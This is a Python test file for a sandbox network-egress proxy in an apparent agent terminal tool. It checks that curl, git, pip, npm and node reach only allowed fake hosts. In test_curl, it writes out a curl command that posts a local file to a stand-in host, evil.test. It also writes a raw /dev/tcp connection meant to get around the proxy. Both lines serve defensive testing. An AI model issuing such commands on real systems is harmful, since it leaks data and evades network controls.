"""curl, git, pip, npm and node find their way out of the sandbox, and only where they may."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import shutil
import subprocess
import tarfile
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from hermes_tui.backends.egress import Egress
from tests.fakes.sandbox_world import World, need
from tests.fakes.small_internet import SmallInternet, certificate

HOSTS = ("web.test", "git.test", "pypi.test", "files.test", "registry.test")


@pytest.fixture(params=[3, 2])
def level(request: pytest.FixtureRequest) -> int:
    need(request.param)
    return request.param


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


@pytest.fixture
async def internet(world: World) -> AsyncIterator[SmallInternet]:
    pair = await asyncio.to_thread(certificate, world.work, *HOSTS, "evil.test")
    pair[1].rename(world.scratch / "key.pem")
    async with SmallInternet().served((pair[0], world.scratch / "key.pem")) as small:
        small.put("web.test", "/hello", b"hello")
        small.put("evil.test", "/", b"evil")
        yield small


@pytest.fixture
def egress(internet: SmallInternet) -> Egress:
    return Egress(HOSTS, ways=internet.ways)


def program(name: str) -> None:
    if shutil.which(name, path="/usr/local/bin:/usr/bin:/bin") is None:
        pytest.skip(f"{name} is not installed")


async def test_curl(world: World, level: int, internet: SmallInternet, egress: Egress) -> None:
    program("curl")
    sandbox = world.sandbox(level, egress=egress)
    ran = await world.run(
        "curl -sS --cacert cert.pem https://web.test/hello; echo; curl -sS http://web.test/hello;"
        "echo; curl -sS --cacert cert.pem https://evil.test/;"
        "curl -s http://evil.test/ -d @cert.pem",
        sandbox,
    )
    assert ran.out.startswith("hello\nhello\n"), ran.out
    assert "evil.test:80 was not granted" in ran.out
    assert {host for _, host, _, _ in internet.requests} == {"web.test"}
    assert set(internet.asked) == {"web.test"}


async def test_nothing_goes_around_the_proxy(
    world: World, level: int, internet: SmallInternet, egress: Egress
) -> None:
    port = internet.ports[80]
    command = f"exec 2>/dev/null; (echo x > /dev/tcp/127.0.0.1/{port}) || echo refused"
    ran = await world.run(command, world.sandbox(level, egress=egress))
    assert ran.out == "refused\n"
    assert internet.requests == []


async def test_git(world: World, level: int, internet: SmallInternet, egress: Egress) -> None:
    program("git")
    await asyncio.to_thread(_publish, world.scratch, internet)
    ran = await world.run(
        "git -c http.sslCAInfo=$PWD/cert.pem clone -q https://git.test/x.git got && cat got/a",
        world.sandbox(level, egress=egress),
    )
    assert ran.out == "from afar\n"


def _publish(folder: Path, internet: SmallInternet) -> None:
    """A repository that any server of files can serve."""
    script = (
        "git init -q w && cd w && echo from afar > a && git add . &&"
        "git -c user.name=A -c user.email=a commit -q -m x && cd .. &&"
        "git clone -q --bare w x.git && cd x.git && git update-server-info"
    )
    env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"}
    subprocess.run(["sh", "-c", script], cwd=folder, env=env, check=True)
    internet.put_folder("git.test", "/x.git", folder / "x.git")


async def test_pip(world: World, level: int, internet: SmallInternet, egress: Egress) -> None:
    wheel = io.BytesIO()
    with zipfile.ZipFile(wheel, "w") as file:
        file.writestr("tiny_thing.py", "SIZE = 1\n")
        info = "tiny_thing-1.0.dist-info"
        file.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: tiny-thing\nVersion: 1.0\n")
        file.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        file.writestr(f"{info}/RECORD", "")
    name = "tiny_thing-1.0-py3-none-any.whl"
    internet.put("files.test", f"/{name}", wheel.getvalue())
    page = f'<a href="https://files.test/{name}">{name}</a>'
    internet.put("pypi.test", "/simple/tiny-thing/", page.encode())
    done = await world.run("/usr/bin/python3 -m pip --version", world.sandbox(level))
    if done.code:
        pytest.skip("pip is not installed for the system's Python")
    ran = await world.run(
        "/usr/bin/python3 -m pip install -q --target lib --cert cert.pem --isolated"
        " --index-url https://pypi.test/simple tiny-thing && cat lib/tiny_thing.py",
        world.sandbox(level, egress=egress),
    )
    assert ran.out.endswith("SIZE = 1\n"), ran.out


def _package() -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as file:
        for name, text in (
            ("package.json", '{"name": "tiny", "version": "1.0.0"}'),
            ("index.js", "module.exports = 6 * 7"),
        ):
            entry = tarfile.TarInfo(f"package/{name}")
            entry.size, entry.mode = len(text), 0o644
            file.addfile(entry, io.BytesIO(text.encode()))
    return packed.getvalue()


async def test_npm(world: World, level: int, internet: SmallInternet, egress: Egress) -> None:
    program("npm")
    packed = _package()
    version = {
        "name": "tiny",
        "version": "1.0.0",
        "dist": {
            "tarball": "https://registry.test/tiny/-/tiny-1.0.0.tgz",
            "shasum": hashlib.sha1(packed).hexdigest(),
        },
    }
    about = {"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    internet.put("registry.test", "/tiny", json.dumps(about).encode())
    internet.put("registry.test", "/tiny/-/tiny-1.0.0.tgz", packed)
    ran = await world.run(
        "npm install --no-audit --no-fund --silent --cafile cert.pem"
        " --registry https://registry.test/ tiny; node -p 'require(\"tiny\")'",
        world.sandbox(level, egress=egress),
    )
    assert ran.out == "42\n", ran.out


async def test_node(world: World, level: int, internet: SmallInternet, egress: Egress) -> None:
    """By a request to the proxy itself; newer versions also do that for fetch by themselves."""
    program("node")
    script = """
const http = require("http"), at = new URL(process.env.HTTP_PROXY)
const login = at.username ? {"Proxy-Authorization":
  "Basic " + Buffer.from(`${at.username}:${at.password}`).toString("base64")} : {}
http.get({host: at.hostname, port: at.port, path: "http://web.test/hello", headers: login},
  (r) => r.on("data", (d) => process.stdout.write(d)))
"""
    (world.work / "get.js").write_text(script)
    ran = await world.run("node get.js", world.sandbox(level, egress=egress))
    assert ran.out == "hello"


async def test_a_host_is_asked_for_while_the_command_waits(
    world: World, level: int, internet: SmallInternet
) -> None:
    program("curl")
    asked: list[str] = []

    async def ask(wish: object) -> bool:
        asked.append(str(wish))
        await asyncio.sleep(0.05)
        return True

    egress = Egress(ask=ask, ways=internet.ways)
    command = "curl -sS http://web.test/hello; curl -sS http://web.test/hello"
    ran = await world.run(command, world.sandbox(level, egress=egress))
    assert ran.out == "hellohello"
    assert len(asked) == 1


async def test_the_door_closes_with_the_command(world: World, level: int, egress: Egress) -> None:
    before = asyncio.all_tasks()
    ran = await world.run("echo ${HTTP_PROXY##*:}", world.sandbox(level, egress=egress))
    port = int(ran.out)
    with pytest.raises(OSError, match="Connect"):
        await asyncio.open_connection("127.0.0.1", port)
    assert asyncio.all_tasks() == before
